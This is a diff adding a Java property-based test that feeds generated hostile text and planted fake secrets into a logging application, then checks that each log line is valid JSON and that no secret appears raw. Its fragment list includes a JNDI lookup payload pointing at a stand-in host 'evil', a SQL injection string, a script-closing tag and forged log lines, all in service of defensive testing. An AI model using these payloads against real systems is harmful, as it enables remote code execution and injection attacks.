@@ -1,0 +1,209 @@
+package io.github.structuredlogging.output;
+
+import java.io.IOException;
+import java.io.RandomAccessFile;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+
+import io.github.structuredlogging.correlation.CorrelationIdGenerator;
+import io.github.structuredlogging.correlation.CorrelationProperties;
+import io.github.structuredlogging.correlation.MdcScope;
+import io.github.structuredlogging.correlation.RequestContext;
+import io.github.structuredlogging.correlation.RequestContextResolver;
+import io.github.structuredlogging.support.LoggingApplication;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Combinators;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+import net.jqwik.api.Tuple;
+import net.jqwik.api.lifecycle.AfterContainer;
+import net.jqwik.api.lifecycle.BeforeContainer;
+import org.slf4j.Logger;
+import org.slf4j.LoggerFactory;
+import org.slf4j.spi.LoggingEventBuilder;
+import tools.jackson.core.StreamReadFeature;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+import org.springframework.context.ConfigurableApplicationContext;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Feeds generated hostile text (control characters, unpaired surrogates, JSON and log-line fragments, very long
+ * strings) with generated secrets into messages, key/values, the MDC and inbound headers of a running
+ * application, and reads back the log file it writes: every line parses as JSON, there is exactly one line per
+ * event, and no secret appears raw. The application is started once for all tries, with its console off, so that
+ * thousands of cases run in seconds.
+ */
+class HostileInputPropertyTests {
+
+	private static final Logger log = LoggerFactory.getLogger(HostileInputPropertyTests.class);
+
+	private static final JsonMapper STRICT = JsonMapper.builder()
+		.enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION)
+		.build();
+
+	private static final List<String> FRAGMENTS = List.of("\n", "\r\n", "\r", "\u0000", "\u001b[31m", "\t", "\u007f",
+			"\u0085", "\u2028", "\u2029", "\ud800", "\udfff", "\ud83d\ude00", "\ufeff", "\"", "\\", "\\u0000", "{",
+			"}", "[", "]", "{\"level\":\"ERROR\",\"message\":\"forged\"}", "\n{\"@timestamp\":\"2026-01-01\"}\n",
+			"2026-11-29 ERROR [main] forged line", "${jndi:ldap://evil/a}", "%n%s%d", "</script>", "' OR 1=1 --",
+			"é", "ß", "中文", "password", "=", ":", "Bearer", "4111", " ");
+
+	private static ConfigurableApplicationContext application;
+
+	private static Path logFile;
+
+	private static long readUpTo;
+
+	private final RequestContextResolver headers = new RequestContextResolver(new CorrelationProperties(),
+			CorrelationIdGenerator.randomUuid());
+
+	@BeforeContainer
+	static void startApplication() throws IOException {
+		logFile = Files.createTempDirectory("hostile-input").resolve("app.log");
+		application = LoggingApplication.start("logging.file.name=" + logFile, "logging.threshold.console=OFF",
+				"logging.logback.rollingpolicy.max-file-size=1GB");
+		readUpTo = Files.size(logFile);
+	}
+
+	@AfterContainer
+	static void stopApplication() {
+		application.close();
+	}
+
+	@Property(tries = 2000)
+	void everyEventIsOneValidJsonLineWithoutRawSecrets(@ForAll("events") List<HostileEvent> events)
+			throws IOException {
+		for (HostileEvent event : events) {
+			event.log(this.headers);
+		}
+		List<String> ours = new ArrayList<>();
+		for (String line : newLines()) {
+			JsonNode json = STRICT.readTree(line);
+			assertThat(json.isObject()).isTrue();
+			if (json.get("logger").asString().equals(HostileInputPropertyTests.class.getName())) {
+				ours.add(line);
+			}
+		}
+		assertThat(ours).hasSize(events.size());
+		for (int i = 0; i < ours.size(); i++) {
+			for (String secret : events.get(i).plantedSecrets()) {
+				assertThat(ours.get(i)).doesNotContain(secret);
+			}
+		}
+	}
+
+	@Provide
+	Arbitrary<List<HostileEvent>> events() {
+		Arbitrary<String> text = hostileText();
+		Arbitrary<String> key = text.map((name) -> (name.length() > 40) ? name.substring(0, 40) : name);
+		Arbitrary<Map<String, String>> keyValues = Arbitraries.maps(key, text).ofMaxSize(3);
+		return Combinators.combine(text, keyValues, text, text, secrets())
+			.as(HostileEvent::new)
+			.list()
+			.ofMinSize(1)
+			.ofMaxSize(3);
+	}
+
+	private static Arbitrary<String> hostileText() {
+		Arbitrary<String> anyChars = Arbitraries.strings().all().ofMaxLength(30);
+		Arbitrary<String> fragment = Arbitraries.oneOf(Arbitraries.of(FRAGMENTS), anyChars);
+		Arbitrary<String> mixed = fragment.list().ofMaxSize(8).map((parts) -> String.join("", parts));
+		// Repeating a generated fragment makes long values as hostile as generating every character, far faster.
+		Arbitrary<String> huge = mixed.filter((part) -> !part.isEmpty())
+			.map((part) -> part.repeat(9000 / part.length() + 1));
+		return Arbitraries.frequencyOf(Tuple.of(30, mixed), Tuple.of(1, huge));
+	}
+
+	private static Arbitrary<Secrets> secrets() {
+		Arbitrary<String> word = Arbitraries.strings().alpha().numeric().ofMinLength(10).ofMaxLength(24);
+		Arbitrary<String> card = Arbitraries.strings()
+			.numeric()
+			.ofLength(15)
+			.map(HostileInputPropertyTests::withLuhnDigit)
+			.filter((number) -> number.charAt(0) >= '2' && number.charAt(0) <= '6');
+		return Combinators.combine(word, word, card).as((password, token, cardNumber) -> new Secrets(
+				"Pw" + password, "eyJ" + token + ".eyJ" + password + "." + token, cardNumber));
+	}
+
+	/**
+	 * Completes 15 digits to a card number that passes the Luhn check.
+	 */
+	private static String withLuhnDigit(String digits) {
+		for (int check = 0; check <= 9; check++) {
+			String candidate = digits + check;
+			int sum = 0;
+			for (int i = 0; i < candidate.length(); i++) {
+				int digit = candidate.charAt(candidate.length() - 1 - i) - '0';
+				if (i % 2 == 1) {
+					digit = (digit * 2 > 9) ? digit * 2 - 9 : digit * 2;
+				}
+				sum += digit;
+			}
+			if (sum % 10 == 0) {
+				return candidate;
+			}
+		}
+		throw new IllegalStateException();
+	}
+
+	private static List<String> newLines() throws IOException {
+		try (RandomAccessFile file = new RandomAccessFile(logFile.toFile(), "r")) {
+			byte[] bytes = new byte[(int) (file.length() - readUpTo)];
+			file.seek(readUpTo);
+			file.readFully(bytes);
+			readUpTo += bytes.length;
+			String written = new String(bytes, StandardCharsets.UTF_8);
+			assertThat(written).endsWith("\n");
+			return List.of(written.substring(0, written.length() - 1).split("\n", -1));
+		}
+	}
+
+	record Secrets(String password, String jwt, String card) {
+
+		List<String> all() {
+			return List.of(this.password, this.jwt, this.card);
+		}
+
+	}
+
+	/**
+	 * One event of generated text, with every kind of secret planted in its message, key/values, MDC and headers.
+	 */
+	record HostileEvent(String message, Map<String, String> keyValues, String mdcValue, String headerValue,
+			Secrets secrets) {
+
+		void log(RequestContextResolver resolver) {
+			Map<String, String> headers = new HashMap<>();
+			headers.put("X-Correlation-Id", this.headerValue);
+			headers.put("X-User-Id", this.headerValue + " Bearer " + this.secrets.jwt());
+			headers.put("X-Client-Id", this.secrets.jwt());
+			RequestContext context = resolver.resolve(headers::get);
+			Map<String, String> mdc = new HashMap<>(context.fields());
+			mdc.put("hostile", this.mdcValue);
+			mdc.put("Authorization", "Bearer " + this.secrets.jwt());
+			try (MdcScope scope = MdcScope.open(mdc)) {
+				LoggingEventBuilder builder = log.atInfo();
+				this.keyValues.forEach(builder::addKeyValue);
+				builder.addKeyValue("password", this.secrets.password())
+					.addKeyValue("note", this.mdcValue + " paid with " + this.secrets.card() + " ")
+					.log(this.message + " password=" + this.secrets.password() + " token " + this.secrets.jwt() + " "
+							+ this.secrets.card());
+			}
+		}
+
+		List<String> plantedSecrets() {
+			return this.secrets.all();
+		}
+
+	}
+
+}
